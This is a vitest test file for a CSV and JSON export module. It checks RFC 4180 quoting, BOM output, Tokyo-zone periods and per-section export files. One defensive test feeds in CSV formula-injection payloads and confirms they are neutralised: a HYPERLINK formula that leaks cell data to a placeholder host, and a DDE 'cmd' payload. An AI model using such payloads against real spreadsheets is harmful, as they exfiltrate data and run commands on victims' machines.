import { readCsv } from "../../test/support/csv";
import { describe, expect, it } from "vitest";
import { BOM, combinedCsv, csvField, exportDocument, exportFiles, inPeriod, isoInZone, parseLocalDate, parsePeriod, section, toCsv } from "./export";

const TZ = "Asia/Tokyo";

describe("CSV writer (RFC 4180)", () => {
  it("leaves plain fields alone and writes null as empty", () => {
    expect(csvField("2026-0001")).toBe("2026-0001");
    expect(csvField(42)).toBe("42");
    expect(csvField(false)).toBe("false");
    expect(csvField(null)).toBe("");
    expect(csvField("個人情報保護委員会")).toBe("個人情報保護委員会");
  });

  it("quotes commas, doubles quotes, keeps new lines inside quotes", () => {
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "yes"')).toBe('"say ""yes"""');
    expect(csvField("line 1\nline 2")).toBe('"line 1\nline 2"');
    expect(csvField("cr\r\nlf")).toBe('"cr\r\nlf"');
    expect(csvField(" padded ")).toBe('" padded "');
  });

  it("neutralises text a spreadsheet would run as a formula (=, +, -, @, tab, CR first) with a leading single quote (OWASP)", () => {
    expect(csvField("=HYPERLINK(\"http://x.example/?\"&A1,\"click\")")).toBe('"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"');
    expect(csvField("+81 3 1234")).toBe("'+81 3 1234");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(csvField("\t=1+1")).toBe("'\t=1+1");
    expect(csvField("\r=1+1")).toBe('"\'\r=1+1"');
    // Inside the text, or numbers we wrote ourselves, are left alone.
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField(-3)).toBe("-3");
    expect(csvField("2026-04-01T09:00:00+09:00")).toBe("2026-04-01T09:00:00+09:00");
    const csv = toCsv(["title"], [{ title: "=cmd|' /C calc'!A0" }]);
    expect(csv).toBe(`${BOM}title\r\n'=cmd|' /C calc'!A0\r\n`);
  });

  it("starts with a UTF-8 BOM, has a header row and CRLF record ends", () => {
    const csv = toCsv(["ref", "title", "count"], [
      { ref: "2026-0001", title: 'Leak, "staff"\nportal', count: 3 },
      { ref: "2026-0002", title: null, count: 0 },
    ]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(Buffer.from(csv, "utf8").subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(csv.slice(1)).toBe('ref,title,count\r\n2026-0001,"Leak, ""staff""\nportal",3\r\n2026-0002,,0\r\n');
  });

  it("an empty section still has its header", () => {
    expect(toCsv(["a", "b"], [])).toBe(`${BOM}a,b\r\n`);
  });

  it("parses back field by field (a round trip through a minimal RFC 4180 reader)", () => {
    const rows = [{ x: 'a,"b"\r\nc', y: "", z: "ok" }];
    const csv = toCsv(["x", "y", "z"], rows).slice(1);
    expect(readCsv(csv)).toEqual([["x", "y", "z"], ['a,"b"\r\nc', "", "ok"]]);
  });
});

describe("period", () => {
  it("from 00:00 of the first day to the end of the last day, in the configured zone, half-open", () => {
    const r = parsePeriod("2026-04-01", "2027-03-31", TZ);
    expect(r.ok).toBe(true);
    if (!r.ok) return;
    expect(r.period.start.toISOString()).toBe("2026-03-31T15:00:00.000Z");
    expect(r.period.end.toISOString()).toBe("2027-03-31T15:00:00.000Z");
    const p = r.period;
    expect(inPeriod(new Date("2026-04-01T00:00:00+09:00"), p)).toBe(true); // first instant
    expect(inPeriod(new Date("2026-03-31T23:59:59+09:00"), p)).toBe(false); // the evening before (JST), though 2026-03-31 in UTC
    expect(inPeriod(new Date("2027-03-31T23:59:59+09:00"), p)).toBe(true); // the last day is included
    expect(inPeriod(new Date("2027-04-01T00:00:00+09:00"), p)).toBe(false); // the next day is not
    expect(inPeriod(null, p)).toBe(false);
  });

  it("a one-day period", () => {
    const r = parsePeriod("2026-11-25", "2026-11-25", TZ);
    expect(r.ok && r.period.end.getTime() - r.period.start.getTime()).toBe(86_400_000);
  });

  it("names the field and the fix for missing, malformed, impossible or reversed dates", () => {
    const missing = parsePeriod(undefined, undefined, TZ);
    expect(missing.ok).toBe(false);
    expect(!missing.ok && missing.problems.map((p) => p.field)).toEqual(["--from", "--to"]);
    const bad = parsePeriod("2026/04/01", "2027-02-30", TZ);
    expect(!bad.ok && bad.problems.map((p) => [p.field, p.fix])).toEqual([
      ["--from", "write it as YYYY-MM-DD, e.g. 2026-04-01"],
      ["--to", "write it as YYYY-MM-DD, e.g. 2027-03-31"],
    ]);
    const reversed = parsePeriod("2027-03-31", "2026-04-01", TZ);
    expect(!reversed.ok && reversed.problems[0]).toMatchObject({ field: "period", fix: expect.stringContaining("earlier day first") });
    expect(parseLocalDate("2028-02-29")).toEqual({ year: 2028, month: 2, day: 29 });
    expect(parseLocalDate("2027-02-29")).toBeNull();
  });
});

describe("dates in ISO 8601 with the configured offset", () => {
  it("Tokyo and a zone with summer time", () => {
    expect(isoInZone(new Date("2026-03-31T15:00:00Z"), TZ)).toBe("2026-04-01T00:00:00+09:00");
    expect(isoInZone(new Date("2026-07-01T12:00:00Z"), "Europe/London")).toBe("2026-07-01T13:00:00+01:00");
    expect(isoInZone(new Date("2026-01-01T12:00:00Z"), "America/New_York")).toBe("2026-01-01T07:00:00-05:00");
    expect(isoInZone(new Date("2026-01-01T12:00:00Z"), "UTC")).toBe("2026-01-01T12:00:00+00:00");
  });
});

describe("export document and files", () => {
  const doc = exportDocument(
    {
      generatedAt: "2027-04-01T09:00:00+09:00",
      period: { from: "2026-04-01", to: "2027-03-31", timezone: TZ, start: "2026-04-01T00:00:00+09:00", end: "2027-04-01T00:00:00+09:00", note: "" },
      profile: { id: "ppc-nisc-2023", title: "覚書", signedOn: "2023-03-24" },
      parties: [{ id: "ppc", designation: "甲", name: "個人情報保護委員会", short: "個情委" }],
      access: { requester: "operator", withheld: 0, note: "" },
      auditChain: { verified: true, entries: 3, lastHash: "abc" },
    },
    [section("incidents", "Incidents", ["ref", "title"], [{ ref: "2026-0001", title: "A", extra: "dropped" }, { ref: "2026-0002" }])],
  );

  it("a section keeps its declared columns in order, missing values as null", () => {
    expect(doc.sections.incidents).toEqual({ title: "Incidents", columns: ["ref", "title"], count: 2, rows: [{ ref: "2026-0001", title: "A" }, { ref: "2026-0002", title: null }] });
  });

  it("writes the JSON, a summary and one CSV per section", () => {
    const files = exportFiles(doc, "renkei-x");
    expect(files.map((f) => f.name)).toEqual(["renkei-x.json", "renkei-x-summary.csv", "renkei-x-incidents.csv"]);
    expect(JSON.parse(files[0]!.content).sections.incidents.count).toBe(2);
    expect(files[1]!.content).toContain("audit_chain_verified,true\r\n");
    expect(files[1]!.content).toContain("rows_incidents,2\r\n");
    expect(files[2]!.content).toBe(`${BOM}ref,title\r\n2026-0001,A\r\n2026-0002,\r\n`);
  });

  it("the combined CSV names each row's section", () => {
    expect(combinedCsv(doc)).toBe(`${BOM}section,ref,title\r\nincidents,2026-0001,A\r\nincidents,2026-0002,\r\n`);
  });
});
